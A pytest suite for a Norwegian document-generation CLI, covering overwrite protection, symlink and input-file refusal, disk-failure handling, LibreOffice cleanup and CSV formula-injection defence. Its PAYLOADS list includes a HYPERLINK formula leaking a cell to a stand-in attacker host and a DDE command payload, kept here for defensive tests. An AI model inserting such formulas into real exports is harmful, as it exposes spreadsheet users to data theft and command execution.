"""Output safety (issue 8): never lose a user's file, never a traceback where a message belongs.

Every writer follows one rule (refuse an existing output without --force,
never write over an input, never through a link); a batch folder is
replaced only when it is a previous, unchanged kvkdocs batch; write
failures end in a Norwegian message, exit 2 and nothing half-written;
LibreOffice is stopped and cleaned up when it hangs or kvkdocs is killed;
manifest.csv cells never run as formulas.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from kvkdocs.cli import cli
from kvkdocs.render.pdf import processes_for

from .conftest import ROOT, SAMPLES

MEETING = SAMPLES / "meetings/2011-09-21-sammen-pulje-1.yaml"
APPS = SAMPLES / "sammen-2011"
APPLICATION = SAMPLES / "pulje-4/1445-gloppen.yaml"


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def letters(out, *extra, meeting=MEETING, apps=APPS):
    return run("letters", meeting, "-a", apps, "-o", out, *extra)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def refused(result, *words):
    """Exit 2 (could not run), a Norwegian message, no traceback."""
    assert result.exit_code == 2, (result.output, result.exception)
    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
    assert "Feil:" in result.output, result.output
    for word in words:
        assert word in result.output, result.output
    return result.output


@pytest.fixture
def batch(tmp_path):
    """A previous kvkdocs batch at tmp_path/ut."""
    out = tmp_path / "ut"
    assert letters(out).exit_code == 0
    return out


# --- --force replaces only a previous kvkdocs batch ---------------------------------------------


def test_force_never_replaces_a_folder_with_files_kvkdocs_did_not_write(tmp_path):
    out = tmp_path / "ut"
    out.mkdir()
    (out / "mine.txt").write_text("viktig", encoding="utf-8")
    text = refused(letters(out), "mine.txt", "heller ikke med --force")
    assert "bruk --force" not in text  # the "exists" error no longer suggests it
    refused(letters(out, "--force"), "mine.txt")
    assert snapshot(out) == {"mine.txt": b"viktig"} and hidden(tmp_path) == []


def test_force_replaces_a_previous_batch_but_not_one_with_a_changed_letter(batch, tmp_path):
    letter = batch / "1221-stord-opptaksbrev.docx"
    original = letter.read_bytes()
    letter.write_bytes(original + b"notater")
    refused(letters(batch, "--force"), "1221-stord-opptaksbrev.docx er endret")
    assert letter.read_bytes() == original + b"notater"
    letter.write_bytes(original)
    (batch / "ekstra.docx").write_bytes(b"x")
    refused(letters(batch, "--force"), "ekstra.docx")
    (batch / "ekstra.docx").unlink()
    (batch / "manifest.json").write_text('{"format": 1, "dokumenter": "nei"}', encoding="utf-8")
    refused(letters(batch, "--force"), "ikke et kvkdocs-manifest")
    shutil.rmtree(batch)
    assert letters(batch).exit_code == 0
    assert letters(batch, "--force").exit_code == 0
    assert hidden(tmp_path) == []  # no staging, backup or lock file left


@pytest.mark.parametrize("where", ["applications", "parent", "meeting", "through a link"])
def test_output_can_never_be_an_input_folder_or_above_one(tmp_path, where):
    apps = tmp_path / "sak" / "innboks"
    shutil.copytree(APPS, apps)
    meeting = tmp_path / "møter" / "mote.yaml"
    meeting.parent.mkdir()
    shutil.copy(MEETING, meeting)
    (tmp_path / "snarvei").symlink_to(tmp_path / "sak")  # links are resolved before the comparison
    out = {"applications": apps, "parent": tmp_path / "sak", "meeting": meeting.parent,
           "through a link": tmp_path / "snarvei" / "innboks"}[where]
    before = snapshot(tmp_path)
    for extra in ([], ["--force"]):
        refused(letters(out, *extra, meeting=meeting, apps=apps), "heller ikke med --force")
    assert snapshot(tmp_path) == before


def test_current_folder_and_its_parents_are_refused(tmp_path, monkeypatch):
    here = tmp_path / "arbeid"
    here.mkdir()
    (here / "notat.txt").write_text("mitt", encoding="utf-8")
    monkeypatch.chdir(here)
    refused(letters(".", "--force"), "er mappen du står i")
    refused(letters("..", "--force"), "ligger over mappen du står i")
    refused(letters(str(here), "--force"), "mappen du står i")
    assert (here / "notat.txt").read_text(encoding="utf-8") == "mitt"


def test_a_killed_swap_is_undone_and_leftovers_are_cleaned(batch, tmp_path):
    before = snapshot(batch)
    (tmp_path / ".ut.tmp-999999").mkdir()  # a staging folder of a killed run
    (tmp_path / ".ut.tmp-999999" / "halv.docx").write_bytes(b"x")
    batch.rename(tmp_path / ".ut.old-999998")  # killed after moving the old batch aside
    refused(letters(batch), "bruk --force")  # the old batch is back, and kept without --force
    assert snapshot(batch) == before and hidden(tmp_path) == []
    shutil.copytree(batch, tmp_path / ".ut.old-999997")  # killed after the swap, before removing the old
    assert letters(batch, "--force").exit_code == 0
    assert hidden(tmp_path) == []


def test_two_runs_at_the_same_moment_one_refuses(batch, tmp_path):
    from kvkdocs.outfolder import OutputFolder

    before = snapshot(batch)
    with OutputFolder(batch, force=True):  # another run holds the folder
        refused(letters(batch, "--force"), "en annen kvkdocs-kjøring")
        assert snapshot(batch) == before
    assert letters(batch, "--force").exit_code == 0
    assert hidden(tmp_path) == []


def test_two_processes_at_the_same_moment_one_wins_the_other_refuses(tmp_path):
    from .pausing import PausedRun
    from .test_letters import big_batch

    apps, meeting = big_batch(tmp_path, 150)
    out = tmp_path / "ut"
    args = ["letters", meeting, "-a", apps, "-o", out, "--force"]
    first = PausedRun(args, after=20, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        first.wait_until_paused()  # the first holds the folder, half-way through its batch
        env = dict(os.environ, PYTHONPATH=str(ROOT))
        second = subprocess.run([sys.executable, "-m", "kvkdocs", *map(str, args)], env=env, capture_output=True,
                                text=True, timeout=60)
        first.resume()
        assert first.proc.wait(timeout=120) == 0, first.proc.stderr.read()
    finally:
        if first.proc.poll() is None:
            first.proc.kill()
        first.proc.stderr.close()
    assert second.returncode == 2 and "en annen kvkdocs-kjøring" in second.stderr, second.stderr
    assert len(list(out.glob("*.docx"))) == 151 and hidden(tmp_path) == []


# --- links ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_symlinked_output_folder_is_refused(batch, tmp_path, force):
    link = tmp_path / "lenke"
    link.symlink_to(batch)
    before = snapshot(batch)
    refused(letters(link, *force), "symbolsk lenke")
    dangling = tmp_path / "dinglende"
    dangling.symlink_to(tmp_path / "finnes-ikke")
    refused(letters(dangling, *force), "symbolsk lenke")
    assert snapshot(batch) == before and not (tmp_path / "finnes-ikke").exists()


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_symlinked_output_file_is_refused(tmp_path, force):
    target = tmp_path / "viktig.json"
    target.write_text("mitt", encoding="utf-8")
    (tmp_path / "r.json").symlink_to(target)
    (tmp_path / "d.json").symlink_to(tmp_path / "ny.json")
    for name in ("r.json", "d.json"):
        refused(run("validate", "samples/utgaver", "-f", "json", "-o", tmp_path / name, *force), "symbolsk lenke")
    assert target.read_text(encoding="utf-8") == "mitt" and not (tmp_path / "ny.json").exists()
    assert (tmp_path / "r.json").is_symlink() and (tmp_path / "d.json").is_symlink()


def test_a_pipe_or_device_is_never_replaced(tmp_path):
    fifo = tmp_path / "ror"
    os.mkfifo(fifo)
    refused(run("validate", "samples/utgaver", "-f", "json", "-o", fifo, "--force"), "ikke en vanlig fil")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


# --- one rule for every writer -------------------------------------------------------------------


WRITERS = {
    "draft": lambda out: ["draft", APPLICATION, "-o", out],
    "minutes": lambda out: ["minutes", MEETING, "-o", out],
    "agreement local": lambda out: ["agreement", "local", APPLICATION, "-o", out],
    "agreement programme": lambda out: ["agreement", "programme", "-p", "kvalitetskommune-2006", "-o", out],
    "validate": lambda out: ["validate", "samples/utgaver", "-f", "json", "-o", out],
    "init": lambda out: ["init", "-p", "kvalitetskommune-2006", "-k", "1445", "-o", out],
}


@pytest.mark.parametrize("command", WRITERS)
def test_every_writer_refuses_an_existing_file_without_force(tmp_path, command):
    out = tmp_path / "fil.docx"
    out.write_bytes(b"mitt")
    refused(run(*WRITERS[command](out)), "finnes allerede", "--force")
    assert out.read_bytes() == b"mitt"
    result = run(*WRITERS[command](out), "--force")
    assert result.exit_code == 0, result.output
    assert out.read_bytes() != b"mitt" and [p.name for p in tmp_path.iterdir()] == ["fil.docx"]


@pytest.mark.parametrize("args,input_", [
    (lambda f: ["draft", f, "-o", f], "application"),
    (lambda f: ["agreement", "local", f, "-o", f], "application"),
    (lambda f: ["validate", f, "-o", f], "application"),
    (lambda f: ["validate", f.parent, "-f", "json", "-o", f], "application"),
    (lambda f: ["minutes", f, "-o", f], "meeting"),
    (lambda f: ["minutes", MEETING, "-a", f.parent, "-o", f], "application"),
])
def test_no_writer_ever_writes_over_its_input(tmp_path, args, input_):
    source = tmp_path / "inn" / "g.yaml"
    source.parent.mkdir()
    shutil.copy(APPLICATION if input_ == "application" else MEETING, source)
    before = source.read_bytes()
    refused(run(*args(source), "--force"), "aldri over en fil det leser")
    if args(source).count(source) == 2:  # read and written: also when named by another link to it
        link = tmp_path / "lenke.yaml"
        os.link(source, link)
        refused(run(*[link if a == source and i > 2 else a for i, a in enumerate(args(source))], "--force"),
                "aldri over en fil det leser")
    assert source.read_bytes() == before


# --- LibreOffice missing -------------------------------------------------------------------------


@pytest.fixture
def no_libreoffice(tmp_path, monkeypatch):
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))


def test_draft_pdf_needs_a_word_file_name(tmp_path):
    refused(run("draft", APPLICATION, "-o", tmp_path / "s.pdf", "--pdf"), "s.docx")
    assert list(tmp_path.iterdir()) == []


def test_draft_pdf_without_libreoffice_says_what_to_do(tmp_path, no_libreoffice):
    text = refused(run("draft", APPLICATION, "-o", tmp_path / "s.docx", "--pdf"), "LibreOffice", "uten --pdf")
    assert "--force" not in text and "--no-pdf-ok" not in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bin"]


def test_letters_pdf_without_libreoffice_writes_nothing_unless_no_pdf_ok(tmp_path, no_libreoffice):
    out = tmp_path / "ut"
    refused(letters(out, "--pdf"), "LibreOffice", "--no-pdf-ok", "ingenting er skrevet")
    assert not out.exists()
    result = letters(out, "--pdf", "--no-pdf-ok")
    assert result.exit_code == 0 and "bare Word-filene" in result.output
    assert len(list(out.glob("*.docx"))) == 5 and not list(out.glob("*.pdf"))
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Sekretariatet: brev etter"):readme.index("## Regler og programutgaver")]
    assert "--no-pdf-ok" in section


# --- write failures: a message, exit 2, nothing half-written -------------------------------------


def fail_on_write(monkeypatch, code: int, after: int = 0):
    """Make the ``after``+1-th file write fail with ``code`` (disk full: ENOSPC)."""
    from kvkdocs import files

    real, calls = getattr(files, "write_all", None), []

    def write_all(fh, data):
        calls.append(1)
        if len(calls) > after:
            raise OSError(code, os.strerror(code))
        real(fh, data)

    monkeypatch.setattr(files, "write_all", write_all, raising=False)


def test_disk_full_during_a_batch(tmp_path, monkeypatch):
    out = tmp_path / "ut"
    fail_on_write(monkeypatch, errno.ENOSPC, after=2)
    refused(letters(out), "disken er full", "Ingenting er skrevet")
    assert list(tmp_path.iterdir()) == []


def test_disk_full_while_replacing_a_batch_keeps_the_old_one(batch, tmp_path, monkeypatch):
    before = snapshot(batch)
    fail_on_write(monkeypatch, errno.ENOSPC, after=3)
    refused(letters(batch, "--force"), "disken er full")
    assert snapshot(batch) == before and hidden(tmp_path) == []


def test_disk_full_while_writing_a_report(tmp_path, monkeypatch):
    fail_on_write(monkeypatch, errno.ENOSPC)
    refused(run("validate", "samples/utgaver", "-f", "json", "-o", tmp_path / "r.json"), "disken er full")
    assert list(tmp_path.iterdir()) == []


def read_only(monkeypatch, folder: Path, code: int):
    """Make ``folder`` behave as on a read-only disk (root ignores chmod): creating anything there fails."""
    real_open, real_mkdir = os.open, os.mkdir
    inside = lambda p: Path(os.path.abspath(os.fsdecode(p))).is_relative_to(folder)  # noqa: E731

    def fake_open(path, flags, *args, **kwargs):
        if inside(path) and flags & (os.O_CREAT | os.O_WRONLY | os.O_RDWR):
            raise OSError(code, os.strerror(code), os.fsdecode(path))
        return real_open(path, flags, *args, **kwargs)

    def fake_mkdir(path, *args, **kwargs):
        if inside(path):
            raise OSError(code, os.strerror(code), os.fsdecode(path))
        return real_mkdir(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", fake_open)
    monkeypatch.setattr(os, "mkdir", fake_mkdir)


@pytest.mark.parametrize("code,words", [(errno.EROFS, "skrivebeskyttet"), (errno.EACCES, "skrivetilgang")])
@pytest.mark.parametrize("sub", ["", "mangler/"])
def test_read_only_output_folder(tmp_path, monkeypatch, code, words, sub):
    ro = tmp_path / "ro"
    ro.mkdir()
    read_only(monkeypatch, ro, code)
    refused(letters(ro / f"{sub}ut"), words, "Ingenting er skrevet")
    refused(run("validate", "samples/utgaver", "-f", "json", "-o", ro / f"{sub}r.json"), words)
    refused(run("draft", APPLICATION, "-o", ro / f"{sub}s.docx"), words)
    assert list(ro.iterdir()) == []


def can_mount() -> bool:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-m", "sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"],
                          capture_output=True).returncode == 0


needs_mount = pytest.mark.skipif(not can_mount(), reason="needs root and mount namespaces (unshare -m)")


def in_private_mount(setup: str, args: list, cwd: Path) -> subprocess.CompletedProcess:
    """Run kvkdocs in a private mount namespace after ``setup`` (the mounts vanish with it)."""
    quoted = " ".join(f"'{a}'" for a in map(str, args))
    script = f"{setup} && exec '{sys.executable}' -m kvkdocs {quoted}"
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, env=env,
                          cwd=cwd, timeout=120)


@needs_mount
def test_a_real_full_disk_and_a_real_read_only_disk(tmp_path):
    full, ro = tmp_path / "full", tmp_path / "ro"
    full.mkdir()
    ro.mkdir()
    tiny = f"mount -t tmpfs -o size=48k tmpfs '{full}'"
    done = in_private_mount(tiny, ["letters", MEETING, "-a", APPS, "-o", full / "ut"], ROOT)
    assert done.returncode == 2 and "disken er full" in done.stderr and "Traceback" not in done.stderr, done.stderr
    done = in_private_mount(tiny, ["validate", "samples/pulje-4", "-f", "html", "-o", full / "r.html"], ROOT)
    assert done.returncode == 2 and "disken er full" in done.stderr and "Traceback" not in done.stderr, done.stderr
    bind = f"mount --bind '{ro}' '{ro}' && mount -o remount,ro,bind '{ro}'"
    for out in (ro / "ut", ro / "mangler" / "ut"):
        done = in_private_mount(bind, ["letters", MEETING, "-a", APPS, "-o", out], ROOT)
        assert done.returncode == 2 and "skrivebeskyttet" in done.stderr, done.stderr
    assert list(full.iterdir()) == [] and list(ro.iterdir()) == []


def test_report_name_with_invalid_utf8(tmp_path):
    name = os.fsencode(tmp_path) + b"/rapport-\xff\xfe.json"
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, "-m", "kvkdocs", "validate", b"samples/utgaver", b"-f", b"json", b"-o", name],
                          capture_output=True, env=env, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert os.listdir(os.fsencode(tmp_path)) == [b"rapport-\xff\xfe.json"]
    assert json.loads(Path(os.fsdecode(name)).read_text(encoding="utf-8"))["summary"]["files"] == 3
    assert b"rapport-\\xff\\xfe.json" in done.stderr and b"Traceback" not in done.stderr
    again = subprocess.run([sys.executable, "-m", "kvkdocs", "validate", b"samples/utgaver", b"-f", b"json", b"-o", name],
                           capture_output=True, env=env, cwd=ROOT)
    assert again.returncode == 2 and b"rapport-\\xff\\xfe.json finnes allerede" in again.stderr


# --- LibreOffice that hangs ----------------------------------------------------------------------


FAKE_SOFFICE = """#!/bin/sh
# A LibreOffice that makes its profile folder and lock file (as a started LibreOffice does)
# and then hangs (a child process, like soffice.bin).
for arg in "$@"; do
  case "$arg" in -env:UserInstallation=file://*) profile="${arg#-env:UserInstallation=file://}";; esac
done
mkdir -p "$profile"
touch "$profile/.lock"
echo "$profile" >> "$MARK.profiles"
sleep 300 &
echo "$! $$" >> "$MARK.pids"
wait
"""
# LibreOffice processes that `letters --pdf` starts ahead for the five documents of MEETING; each
# gets its files from a second `soffice --convert-to` call, so a conversion starts two fakes.
PROCESSES = processes_for(5)


@pytest.fixture
def hanging_soffice(tmp_path, monkeypatch):
    """A fake soffice on PATH; returns a function giving (pids, profile folders) of the fakes started so far."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    fake = bindir / "soffice"
    fake.write_text(FAKE_SOFFICE, encoding="utf-8")
    fake.chmod(0o755)
    mark = tmp_path / "mark"
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("MARK", str(mark))

    def started(count: int = 0, seconds: float = 30) -> tuple[list[int], list[Path]]:
        end = time.time() + seconds
        while True:
            pids = Path(f"{mark}.pids").read_text().split() if Path(f"{mark}.pids").exists() else []
            if len(pids) >= 2 * count:
                break
            assert time.time() < end, "the fake LibreOffice never started"
            time.sleep(0.05)
        profiles = Path(f"{mark}.profiles").read_text().split() if Path(f"{mark}.profiles").exists() else []
        return [int(p) for p in pids], [Path(p) for p in profiles]

    yield started
    for pid in started()[0]:  # a failed test must not leave a sleeper behind
        if not gone(pid, wait=0):
            os.kill(pid, signal.SIGKILL)


def gone(pid: int, wait: float = 5.0) -> bool:
    """Whether ``pid`` has ended, allowing a killed process ``wait`` seconds to be scheduled and die.

    SIGKILL ends a process the next time it runs; on a loaded machine that
    can be a moment after kill() returns.
    """
    deadline = time.monotonic() + wait
    while not _ended(pid):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def _ended(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return True
    return state in ("Z", "X")  # a zombie nobody has reaped yet is dead too


def test_a_hanging_libreoffice_is_stopped_and_cleaned_up(tmp_path, hanging_soffice, monkeypatch):
    from kvkdocs.render import pdf

    monkeypatch.setattr(pdf, "TIMEOUT_BASE", 4.0, raising=False)
    monkeypatch.setattr(pdf, "TIMEOUT_PER_FILE", 0.1)
    out = tmp_path / "ut"
    started = time.monotonic()
    refused(letters(out, "--pdf"), "LibreOffice brukte mer enn", "ingenting er skrevet")
    assert time.monotonic() - started < 20
    pids, profiles = hanging_soffice(2 * PROCESSES)  # the LibreOffice started ahead, and the call that feeds it
    assert len(profiles) == 2 * PROCESSES and len(set(profiles)) == PROCESSES
    assert not any(p.exists() or p.parent.exists() for p in profiles)
    assert all(gone(pid) for pid in pids)  # the launcher and its child: the whole process group
    assert not out.exists() and hidden(tmp_path) == []
    assert pdf.time_limit(300) > pdf.time_limit(5) > pdf.time_limit(1)  # scaled to the batch, not flat


def start_letters_with_pdf(tmp_path, out):
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    cmd = [sys.executable, "-m", "kvkdocs", "letters", str(MEETING), "-a", str(APPS), "-o", str(out), "--pdf"]
    return subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)


def test_sigterm_to_kvkdocs_stops_libreoffice_and_removes_its_profile(tmp_path, hanging_soffice):
    out = tmp_path / "ut"
    proc = start_letters_with_pdf(tmp_path, out)
    hanging_soffice(PROCESSES)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=30)
    proc.stderr.close()
    pids, profiles = hanging_soffice(PROCESSES)
    assert not any(p.parent.exists() for p in profiles)
    assert all(gone(pid) for pid in pids)
    assert not out.exists() and hidden(tmp_path) == []


def test_sigterm_while_letters_are_rendered_stops_at_the_next_document(tmp_path, hanging_soffice):
    """The signal comes while kvkdocs renders (not while it waits for LibreOffice): it is noted, and obeyed
    between two documents, where no library holds a lock; the batch is not written and LibreOffice is gone."""
    from .pausing import PausedRun

    out = tmp_path / "ut"
    run = PausedRun(["letters", MEETING, "-a", APPS, "-o", out, "--pdf"], after=2,
                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        run.wait_until_paused()
        pids, profiles = hanging_soffice(PROCESSES)
        run.proc.send_signal(signal.SIGTERM)
        time.sleep(0.3)
        assert run.proc.poll() is None  # noted, not obeyed in the middle of the pause (inside a document)
        run.resume()
        assert run.proc.wait(timeout=60) == 128 + signal.SIGTERM
    finally:
        if run.proc.poll() is None:
            run.proc.kill()
        run.proc.stderr.close()
    assert all(gone(pid) for pid in pids) and not any(p.parent.exists() for p in profiles)
    assert not out.exists() and hidden(tmp_path) == []


def test_a_second_sigterm_is_obeyed_at_once(tmp_path, hanging_soffice):
    """Whoever sends the signal twice insists: kvkdocs stops even in the middle of a document."""
    from .pausing import PausedRun

    out = tmp_path / "ut"
    run = PausedRun(["letters", MEETING, "-a", APPS, "-o", out, "--pdf"], after=2,
                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        run.wait_until_paused()
        pids, profiles = hanging_soffice(PROCESSES)
        run.proc.send_signal(signal.SIGTERM)
        time.sleep(0.2)
        run.proc.send_signal(signal.SIGTERM)
        assert run.proc.wait(timeout=60) == 128 + signal.SIGTERM  # never resumed
    finally:
        if run.proc.poll() is None:
            run.proc.kill()
        run.proc.stderr.close()
    assert all(gone(pid) for pid in pids) and not any(p.parent.exists() for p in profiles)
    assert not out.exists() and hidden(tmp_path) == []


def test_after_a_kill_the_next_run_cleans_up(tmp_path, hanging_soffice, monkeypatch):
    from kvkdocs.render import pdf

    out = tmp_path / "ut"
    proc = start_letters_with_pdf(tmp_path, out)
    stale, stale_profiles = hanging_soffice(PROCESSES)
    proc.kill()  # SIGKILL: kvkdocs can clean nothing up itself
    proc.wait(timeout=30)
    proc.stderr.close()
    assert all(p.exists() for p in stale_profiles) and not any(gone(pid, wait=0) for pid in stale)  # left behind
    monkeypatch.setattr(pdf, "TIMEOUT_BASE", 0.5, raising=False)
    monkeypatch.setattr(pdf, "TIMEOUT_PER_FILE", 0.0)
    refused(letters(out, "--pdf"), "LibreOffice brukte mer enn")
    assert not any(p.parent.exists() for p in stale_profiles)
    assert all(gone(pid) for pid in stale)
    assert not out.exists() and hidden(tmp_path) == []


# --- manifest.csv: no formula injection ----------------------------------------------------------


PAYLOADS = ['=HYPERLINK("http://angriper.example/?x="&A1,"Klikk")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1-2",
            "-2+3", "\t=1+1", "\r=1+1"]


def test_manifest_cells_never_start_a_formula(tmp_path):
    from kvkdocs.batch import MANIFEST_COLUMNS, Manifest

    manifest = Manifest(tmp_path)
    for payload in PAYLOADS:
        manifest.add({column: payload for column in MANIFEST_COLUMNS} | {"type": "brev"})
    manifest.add({column: "Førde kommune" for column in MANIFEST_COLUMNS} | {"sha256": "ab12", "type": "brev"})
    manifest.close()
    with (tmp_path / "manifest.csv").open(encoding="utf-8", newline="") as fh:  # keep a \r in a cell
        rows = list(csv.DictReader(fh))
    for payload, row in zip(PAYLOADS, rows[:-1], strict=True):
        for column in MANIFEST_COLUMNS:
            if column != "type":
                assert row[column] == "'" + payload, (column, row[column])
    assert rows[-1]["mottaker_navn"] == "Førde kommune" and rows[-1]["sha256"] == "ab12"
    kept = json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8"))["dokumenter"]
    assert [row["tittel"] for row in kept[:-1]] == PAYLOADS  # the JSON keeps every value as it is


def test_manifest_of_a_batch_with_hostile_meeting_values(tmp_path):
    meeting = yaml.safe_load(MEETING.read_text(encoding="utf-8"))
    meeting["avsender"]["navn"] = PAYLOADS[0]
    meeting["saksnummer"] = "-2"
    path = tmp_path / "mote.yaml"
    path.write_text(yaml.safe_dump(meeting, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "ut"
    result = letters(out, meeting=path)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text(encoding="utf-8"))))
    minutes = next(row for row in rows if row["type"] == "protokoll")
    assert minutes["korrespondansepart"] == "'" + PAYLOADS[0]
    assert all(row["saksreferanse"] == "'-2" and row["var_referanse"].startswith("'-2-") for row in rows)
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    digest = hashlib.sha256((out / minutes["filnavn"]).read_bytes()).hexdigest()
    assert minutes["sha256"] == digest
